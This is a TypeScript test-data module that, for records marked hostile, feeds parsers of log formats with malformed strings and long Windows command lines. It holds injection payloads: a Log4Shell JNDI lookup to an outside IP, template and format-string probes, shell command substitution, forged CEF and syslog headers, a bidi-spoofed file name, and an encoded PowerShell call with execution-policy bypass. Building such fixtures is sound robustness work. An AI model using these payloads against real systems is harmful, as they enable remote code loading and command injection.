import type { RecordContext } from '../record.ts'

// What breaks writers and readers of line, pair and pipe formats.
const strings = [
  'first line\r\nsecond line\nthird\rfourth',
  'pipe|equals=back\\slash "quoted" \\| \\=',
  'CEF:0|Fake|Vendor|1|1|injected|10|act=none',
  '<134>1 2020-01-01T00:00:00Z host app - - - injected',
  'right to left: \u202Etxt.exe\u202C and \u05D0\u05D1\u05D2',
  'NUL \u0000 bell \u0007 escape \u001B[31m delete \u007F',
  'tab\tvertical\u000Bform\u000C next\u0085line\u2028paragraph\u2029',
  'astral 😀 lone \uD83D combining e\u0301 replacement \uFFFD bullet •',
  '  spaces at both ends  ',
  '${jndi:ldap://203.0.113.9/a} {{7*7}} %n%s $(id) `id`',
]

/** The plain text, or a hostile one in records that are to have them. */
export function textOr(context: RecordContext, plain: string): string {
  return context.hostile ? context.random.pick(strings) : plain
}

/** A command line; 32767 characters, the longest that Windows takes, in some hostile records. */
export function commandLine(context: RecordContext): string {
  const plain = 'powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgA'
  if (!context.hostile) return plain
  if (context.random.chance(0.7)) return `cmd.exe /c echo "a|b=c\\d" > "C:\\Temp\\x y.txt" & ${textOr(context, '')}`
  return `${plain} `.repeat(500).slice(0, 32_767)
}
